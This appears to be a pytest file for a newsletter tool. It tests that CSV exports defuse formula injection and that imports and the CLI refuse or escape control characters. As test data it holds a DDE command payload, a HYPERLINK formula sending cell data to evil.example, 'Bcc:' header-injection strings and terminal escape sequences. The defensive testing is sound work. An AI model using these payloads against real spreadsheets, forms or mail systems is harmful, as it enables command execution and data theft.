"""Hostile text through CSV files and the CLI: formula injection, stray bytes, control characters, stray quotes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import Engine, update

from newsletter.safe_text import spreadsheet_cell, unescape_spreadsheet_cell
from newsletter.store.imports import import_csv
from newsletter.store.lists import ListRow, create_list
from newsletter.store.schema import subscribers
from newsletter.store.subscribers import add_subscriber, get_subscriber, set_pending
from tests.conftest import write_project
from tests.store.test_cli import Cli

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "+SUM(A1:A9)",
    "@SUM(A1:A9)",
    "-2+3",
    "\uff1d1+1",  # full-width '=', which some spreadsheets also evaluate
    "'=already marked",
    "'t Hooft",
]


@pytest.fixture
def with_list(tmp_path: Path, database_url: str) -> Cli:
    cli = Cli(write_project(tmp_path / "project", database_url))
    cli("lists", "create", "erhverv", "--title", "Erhvervsnyt", "--consent-text", "Ja tak")
    return cli


def _cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


@pytest.mark.parametrize("excel", [False, True])
def test_export_neutralises_every_formula_cell(with_list: Cli, excel: bool) -> None:
    for number, name in enumerate(FORMULAS):
        with_list("subscribers", "add", f"person{number}@firma.dk", "--name", name)
    with_list("subscribers", "add", "=cmd@firma.dk", "--name", "Almindelig")
    exported = with_list("subscribers", "export", *(["--excel"] if excel else [])).stdout
    rows = _cells(exported, ";" if excel else ",")
    dangerous = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
    for row in rows:
        for cell in row:
            assert not cell.startswith(dangerous), f"live formula in the export: {cell!r}"
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["person0@firma.dk"] == "'=cmd|' /C calc'!A0"
    assert names["person4@firma.dk"] == "'-2+3"
    assert names["person7@firma.dk"] == "'t Hooft"  # nothing a spreadsheet would evaluate: untouched
    assert "'=cmd@firma.dk" in names


def test_sign_up_name_and_imported_attribute_cannot_become_formulas(
    tmp_path: Path, with_list: Cli, engine: Engine
) -> None:
    with engine.begin() as conn:
        the_list = create_list(conn, "web", "Web")
        # The same call the public sign-up form makes.
        set_pending(
            conn,
            "web@firma.dk",
            the_list.id,
            name='=HYPERLINK("https://evil.example","Ja")',
            language="da",
            method="form",
            source="web sign-up",
            consent_text="Ja",
            ip="127.0.0.1",
        )
    sheet = tmp_path / "attributes.csv"
    sheet.write_text("email;Virksomhed\nattr@firma.dk;@SUM(1+1)*cmd|' /C calc'!A0\n", encoding="utf-8")
    with_list("subscribers", "import", str(sheet), "--list", "web")
    exported = with_list("subscribers", "export", "--list", "web", "--state", "pending").stdout
    assert _cells(exported, ",")[1][1] == '\'=HYPERLINK("https://evil.example","Ja")'
    exported = with_list("subscribers", "export", "--list", "web", "--state", "subscribed").stdout
    assert _cells(exported, ",")[1][-1] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_exported_file_imports_back_unchanged(tmp_path: Path, with_list: Cli) -> None:
    for number, name in enumerate(FORMULAS):
        with_list("subscribers", "add", f"person{number}@firma.dk", "--name", name)
    with_list("subscribers", "add", "=cmd@firma.dk", "--name", "-Minus")
    out = tmp_path / "erhverv.csv"
    with_list("subscribers", "export", "--excel", "--out", str(out))
    with_list("lists", "create", "kopi", "--title", "Kopi")
    with_list("subscribers", "import", str(out), "--list", "kopi")
    again = tmp_path / "kopi.csv"
    with_list("subscribers", "export", "--excel", "--list", "kopi", "--out", str(again))
    # (Import keeps the export's own state/subscribed columns as attributes: compare email and name.)
    original = [row[:2] for row in _cells(out.read_text(encoding="utf-8-sig"), ";")]
    assert [row[:2] for row in _cells(again.read_text(encoding="utf-8-sig"), ";")] == original
    assert len(original) == len(FORMULAS) + 2
    shown = with_list("subscribers", "show", "person6@firma.dk").stdout
    assert "name:        '=already marked" in shown  # the user's own apostrophe survived the round trip
    assert "name:        -Minus" in with_list("subscribers", "show", "=cmd@firma.dk").stdout


@pytest.mark.parametrize("value", [*FORMULAS, "", "plain", "'", "''", "'''+", "\t=x", "=", "\uff20x"])
def test_spreadsheet_marking_is_exactly_undone(value: str) -> None:
    assert unescape_spreadsheet_cell(spreadsheet_cell(value)) == value


# --- reading hostile import files ----------------------------------------------------------


def test_mostly_utf8_file_with_one_stray_byte_is_read_as_utf8(
    tmp_path: Path, engine: Engine, erhverv: ListRow
) -> None:
    lines = [b"email;navn"] + [f"p{n}@firma.dk;Åse Ærø {n}".encode() for n in range(1, 200)]
    lines[50] = b"p50@firma.dk;S\xf8ren"  # one name typed in a Windows-1252 program
    sheet = tmp_path / "mixed.csv"
    sheet.write_bytes(b"\n".join(lines) + b"\n")
    summary = import_csv(engine, sheet, "erhverv")
    assert summary.encoding == "utf-8-sig"
    assert summary.added == 198
    assert [problem.line for problem in summary.rejected] == [51]
    assert summary.rejected[0].reason.startswith(
        "holds byte 0xf8, which is not UTF-8 like the rest of the file"
    )
    assert "save the sheet as 'CSV UTF-8'" in summary.rejected[0].reason
    with engine.connect() as conn:
        person = get_subscriber(conn, "p7@firma.dk")
        assert person is not None and person.name == "Åse Ærø 7"  # not 'Ã\x85se Ã\x86rÃ¸'
        assert get_subscriber(conn, "p50@firma.dk") is None


def test_file_without_any_utf8_sequence_is_still_windows_1252(
    tmp_path: Path, engine: Engine, erhverv: ListRow
) -> None:
    sheet = tmp_path / "excel.csv"
    sheet.write_bytes("email;navn\nsoeren@firma.dk;Søren Ærø\n".encode("cp1252"))
    summary = import_csv(engine, sheet, "erhverv")
    assert (summary.encoding, summary.added, summary.rejected) == ("cp1252", 1, [])
    with engine.connect() as conn:
        person = get_subscriber(conn, "soeren@firma.dk")
        assert person is not None and person.name == "Søren Ærø"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("Jens\x00Hansen", "a NUL byte (U+0000)"),
        ("Jens\x1b[31mHansen", "an escape character (U+001B)"),
        ("Jens\tHansen", "a tab (U+0009)"),
        ('"Jens\nBcc: x@evil.example"', "a line break (U+000A)"),
        ("Jens\u2028Hansen", "a line separator (U+2028)"),
        ("Jens\x85Hansen", "a line break (NEL) (U+0085)"),
    ],
)
def test_control_characters_in_a_name_are_refused_with_the_line(
    tmp_path: Path, engine: Engine, erhverv: ListRow, cell: str, shown: str
) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text(
        f"email;name\nok@firma.dk;Ok\nbad@firma.dk;{cell}\nalso@firma.dk;Også\n", encoding="utf-8"
    )
    summary = import_csv(engine, sheet, "erhverv")
    assert summary.added == 2
    assert len(summary.rejected) == 1
    assert summary.rejected[0].line == 3
    assert f"the name holds {shown}" in summary.rejected[0].reason
    with engine.connect() as conn:
        assert get_subscriber(conn, "bad@firma.dk") is None


def test_control_character_in_an_attribute_is_refused_but_a_multi_line_address_is_kept(
    tmp_path: Path, engine: Engine, erhverv: ListRow
) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text(
        'email;Adresse\nok@firma.dk;"Vej 1\n2750 Ballerup"\nbad@firma.dk;Vej\x002\n', encoding="utf-8"
    )
    summary = import_csv(engine, sheet, "erhverv")
    assert summary.added == 1
    assert [(problem.line, "NUL" in problem.reason) for problem in summary.rejected] == [(4, True)]
    with engine.connect() as conn:
        person = get_subscriber(conn, "ok@firma.dk")
        assert person is not None and person.attributes == {"Adresse": "Vej 1\n2750 Ballerup"}


def _sheet_with_stray_quote(rows: int, quote_at: int, closing_at: int | None) -> str:
    lines = ["email,name,company"]
    for number in range(1, rows + 1):
        if number == quote_at:
            lines.append(f'p{number}@firma.dk,"Jens Hansen,Firma')  # the quote is never closed
        elif number == closing_at:
            lines.append(f'p{number}@firma.dk,"Hansen, Bo",Firma')  # its quote closes the stray one
        else:
            lines.append(f"p{number}@firma.dk,Person {number},Firma")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("closing_at", [133, None])
def test_stray_quote_is_reported_where_it_opened_and_swallows_no_rows(
    tmp_path: Path, engine: Engine, erhverv: ListRow, closing_at: int | None
) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text(_sheet_with_stray_quote(20_000, 100, closing_at), encoding="utf-8")
    summary = import_csv(engine, sheet, "erhverv")
    assert summary.added == 19_999  # every row but the one holding the stray quote
    assert len(summary.rejected) == 1
    problem = summary.rejected[0]
    assert problem.line == 101  # data row 100 is on line 101 (the header is line 1)
    assert problem.reason.startswith('a quote (") opens a value on this line and is not closed on it')
    with engine.connect() as conn:
        assert get_subscriber(conn, "p100@firma.dk") is None
        for number in (101, 132, 133, 134, 20_000):
            person = get_subscriber(conn, f"p{number}@firma.dk")
            assert person is not None, number
        closing = get_subscriber(conn, "p133@firma.dk")
        assert closing is not None
        assert closing.name == ("Hansen, Bo" if closing_at else "Person 133")


def test_stray_quote_is_reported_on_the_command_line(tmp_path: Path, with_list: Cli) -> None:
    sheet = tmp_path / "people.csv"
    sheet.write_text(_sheet_with_stray_quote(40, 10, 20), encoding="utf-8")
    result = with_list("subscribers", "import", str(sheet))
    assert f'{sheet}:11: rejected: a quote (") opens a value on this line' in result.stderr
    assert "Imported: 39 added" in result.stdout


# --- the CLI: names going in, names coming out ---------------------------------------------


def test_cli_add_refuses_a_name_with_a_line_break(with_list: Cli) -> None:
    result = with_list("subscribers", "add", "jens@firma.dk", "--name", "Jens\r\nBcc: x@evil.example", code=4)
    assert result.stderr.strip().splitlines() == [
        "Error: name 'Jens\\r\\nBcc: x@evil.example' holds a carriage return (U+000D) at character 5 "
        "— give the name on one line, as plain text"
    ]
    assert "not a subscriber" in with_list("subscribers", "show", "jens@firma.dk", code=4).stderr


def test_lists_create_refuses_a_title_with_a_line_break(with_list: Cli) -> None:
    result = with_list("lists", "create", "ny", "--title", "Nyt\nBcc: x@evil.example", code=4)
    assert "Error: list 'ny': the title holds a line break (U+000A) at character 4" in result.stderr


def test_stored_escape_sequences_are_shown_not_obeyed(with_list: Cli, engine: Engine) -> None:
    with_list("subscribers", "add", "jens@firma.dk", "--name", "Jens")
    hostile = "\x1b]0;pwned\x07\x1b[2J[bold red]Jens[/] \u202eevil"
    with engine.begin() as conn:
        # Written straight into the table, as data saved before this check existed would be.
        conn.execute(update(subscribers).values(name=hostile, attributes={"note\x1b[5m": "x\x1b[0m"}))
    for output in (
        with_list("subscribers", "show", "jens@firma.dk").stdout,
        with_list("subscribers", "list").stdout,
    ):
        assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
        assert "\\x1b]0;pwned\\x07\\x1b[2J[bold red]Jens[/] \\u202eevil" in output


def test_add_subscriber_library_call_refuses_control_characters(engine: Engine, erhverv: ListRow) -> None:
    with engine.begin() as conn, pytest.raises(Exception, match="holds a NUL byte"):
        add_subscriber(conn, "nul@firma.dk", "erhverv", name="Jens\x00")
